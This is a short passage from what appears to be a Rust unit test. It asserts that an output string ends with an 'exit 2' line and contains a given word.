        assert!(told.ends_with("exit 2\n") && told.contains(word), "{told}");
    }
}
